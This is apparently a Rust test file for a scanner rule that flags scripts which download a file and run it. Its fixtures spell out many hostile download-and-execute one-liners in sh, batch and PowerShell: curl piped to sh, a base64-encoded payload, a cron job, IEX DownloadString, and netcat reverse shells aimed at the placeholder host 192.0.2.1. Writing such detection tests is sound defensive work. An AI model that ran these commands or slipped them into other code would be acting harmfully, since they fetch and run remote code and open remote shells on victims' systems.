//! What a text starts of the files that its own transfers bring: names of any length, other names, and what is piped into a
//! shell.

use crate::support::case;

/// The findings of downloads that are run, each with the words it quotes.
fn executed(files: &[(&'static str, &str)]) -> Vec<String> {
    let case = case(files.iter().map(|(path, text)| (*path, *text)));
    let findings = case.findings.iter().filter(|finding| finding.rule == "script.executes-download");
    findings.map(|finding| finding.explanation.clone()).collect()
}

#[test]
fn a_download_that_is_run_is_told_once() {
    let ftp = "open 192.0.2.1\r\nuser bob pw\r\nbinary\r\nget holiday.jpg\r\nget p.exe\r\nget nc\r\nbye\r\n";
    let cases: [(&'static str, &str); 23] = [
        ("a.sh", "#!/bin/sh\ncurl -s -o /tmp/x ftp://u:p@192.0.2.1/x; chmod +x /tmp/x; /tmp/x\n"),
        ("a.sh", "#!/bin/sh\nftp -n 192.0.2.1 <<EOF\nuser a b\nget bot\nbye\nEOF\nchmod 755 bot\n./bot &\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/nc\nnohup ./nc -e /bin/sh 192.0.2.1 9\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/a\nsh a\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.sh | sudo bash -s -- x\n"),
        ("a.sh", "#!/bin/sh\nwget -qO- ftp://u:p@192.0.2.1/a.sh | bash\n"),
        ("a.sh", "#!/bin/sh\nwget -qO- ftp://u:p@192.0.2.1/a.gz | gunzip | sh\n"),
        ("a.sh", "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/a.py | python3 -\n"),
        ("a.sh", "#!/bin/sh\nsh -c \"$(curl -fsSL ftp://u:p@192.0.2.1/a.sh)\"\n"),
        ("a.sh", "#!/bin/bash\neval \"$(curl -s ftp://u:p@192.0.2.1/a.sh)\"\n"),
        ("a.sh", "#!/bin/bash\nbash <(curl -s ftp://u:p@192.0.2.1/a.sh)\n"),
        ("etc/cron.d/b", "*/5 * * * * bob curl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("a.sh", "#!/bin/sh\necho Y3VybCAtcyBmdHA6Ly91OnBAMTkyLjAuMi4xL2Euc2ggfCBzaAo= | base64 -d | sh\n"),
        (
            "a.sh",
            "#!/bin/bash\neval \"$(echo Y3VybCAtcyBmdHA6Ly91OnBAMTkyLjAuMi4xL2Euc2ggfCBzaAo= | base64 --decode)\"\n",
        ),
        ("root/.bash_history", "curl -s ftp://u:p@192.0.2.1/a.sh | sh\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\nmv pic.png /tmp/run\nchmod +x /tmp/run\n/tmp/run\n"),
        ("a.sh", "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\ncp pic.png a\nmv a b\n./b\n"),
        ("go.bat", "ftp -n -s:u.txt\r\nren holiday.jpg holiday.exe\r\nstart holiday.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\nmove p.exe C:\\w\\b.exe\r\nC:\\w\\b.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncopy /y p.exe q.exe\r\nq\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncertutil -decode holiday.jpg r.exe\r\nstart /b r.exe\r\n"),
        ("go.bat", "ftp -n -s:u.txt\r\ncmd /c nc -e cmd.exe 192.0.2.1 9\r\n"),
    ];
    for (path, text) in cases {
        let mut files = vec![(path, text)];
        if path == "go.bat" {
            files.push(("u.txt", ftp));
        }
        assert_eq!(executed(&files).len(), 1, "{text}: {:?}", executed(&files));
    }
    // The client's own shell: told as a start of the script, and not once more.
    let own = "open 192.0.2.1\r\nbob\r\npw\r\nbinary\r\nget p.exe\r\n!start p.exe\r\nbye\r\n";
    assert_eq!(executed(&[("z.log", own)]).len(), 1);
}

#[test]
fn a_download_that_runs_without_a_file_is_told() {
    let ftp = "ftp://u:p@192.0.2.1";
    let told = |path: &'static str, text: &str| executed(&[(path, &text.replace("@@", ftp))]);
    let scripts = [
        "curl -s @@/a.bat | cmd",
        "curl -s @@/a.txt|cmd.exe /q",
        "curl.exe -s @@/a.ps1 | powershell -nop -",
        "curl -s @@/a.ps1 | powershell",
        "curl -s @@/a.py | python -",
        "curl -s @@/a.sh | bash",
        "curl -s @@/a.txt | findstr /v rem | cmd",
        "cmd /c \"curl -s @@/a.txt | cmd\"",
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('@@/a.ps1')\"",
        "powershell -c \"(New-Object Net.WebClient).DownloadString('@@/a.ps1')\" | cmd",
    ];
    for text in scripts {
        let told = told("go.bat", &format!("@echo off\r\n{text}\r\n"));
        assert_eq!(told.len(), 1, "{text}: {told:?}");
    }
    let lines = [
        "IEX (New-Object Net.WebClient).DownloadString('@@/a.ps1')",
        "iex (iwr @@/a.ps1)",
        "iex (iwr @@/a.ps1 -UseBasicParsing).Content",
        "iex ((iwr @@/a.ps1).Content.Trim())",
        "iex \"$(irm @@/a.ps1)\"",
        "iwr @@/a.ps1 | iex",
        "irm '@@/a.ps1' | Out-String | Invoke-Expression",
        "(iwr @@/a.ps1).Content | iex",
        "iwr @@/a.ps1 | select -ExpandProperty Content | iex",
        "$w = New-Object System.Net.WebClient\n$s = $w.DownloadString('@@/a.ps1')\nInvoke-Expression $s",
        "$b = (New-Object Net.WebClient).DownloadData('@@/a.ps1')\niex ([Text.Encoding]::UTF8.GetString($b))",
        "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('@@/a.ps1')))",
        "& ([scriptblock]::Create((iwr @@/a.ps1).Content)) -Now x",
        "[ScriptBlock]::Create((irm @@/a.ps1)).Invoke()",
        "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm @@/a.ps1)))",
        "$ExecutionContext.InvokeCommand.InvokeScript((irm @@/a.ps1))",
        "[powershell]::Create().AddScript((irm @@/a.ps1)).Invoke()",
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('@@/a.dll')).EntryPoint.Invoke($null, $null)",
        "$a = [System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('@@/a.dll'))",
        "curl.exe -s @@/a.ps1 | iex",
        "curl.exe -s @@/a.ps1 | powershell -",
        "iex (curl.exe -s @@/a.ps1)",
        "(New-Object Net.WebClient).DownloadString('@@/a.ps1') | powershell -",
    ];
    for text in lines {
        let told = told("a.ps1", &format!("{text}\n"));
        assert_eq!(told.len(), 1, "{text}: {told:?}");
    }
    let quiet = [
        ("go.bat", "curl -s @@/a.txt | findstr x"),
        ("go.bat", "curl -s @@/a.txt | cmd /c findstr x"),
        ("go.bat", "curl -s -o a.txt @@/a.txt | cmd"),
        ("go.bat", "curl -s @@/a.txt | more\r\ncmd"),
        ("go.bat", "curl -s @@/a.txt | powershell -c \"$input | sort\""),
        ("a.ps1", "$s = (New-Object Net.WebClient).DownloadString('@@/a.txt')\niex 'whoami'"),
        ("a.ps1", "(iwr @@/a.txt).Content | Out-File b.txt\niex (gc c.txt)"),
        ("a.ps1", "(New-Object Net.WebClient).DownloadString('@@/a.txt') | findstr x"),
        ("a.ps1", "$b = [Convert]::FromBase64String('QQ==')\n[Reflection.Assembly]::Load($b)\nirm @@/a.txt"),
    ];
    for (path, text) in quiet {
        assert_eq!(told(path, &format!("{text}\r\n")), [""; 0], "{text}");
    }
}

#[test]
fn what_is_only_touched_is_not_run() {
    let cases = [
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/kit.tgz\ntar xzf kit.tgz\n",
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/a\ngrep a /etc/passwd\nfoo a\n",
        "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/list | grep x\nsh other.sh\n",
        "#!/bin/sh\ncurl -s ftp://u:p@192.0.2.1/list | sort > l\n",
        "#!/bin/sh\ncurl -s -o l ftp://u:p@192.0.2.1/list | sh\n",
        "#!/bin/sh\nwget ftp://u:p@192.0.2.1/pic.png\nmv pic.png old.png\n./run\n",
        "#!/bin/sh\nx=$(curl -s ftp://u:p@192.0.2.1/list)\nsh -c \"$(hostname)\"\n",
    ];
    for text in cases {
        assert_eq!(executed(&[("a.sh", text)]), [""; 0], "{text}");
    }
}
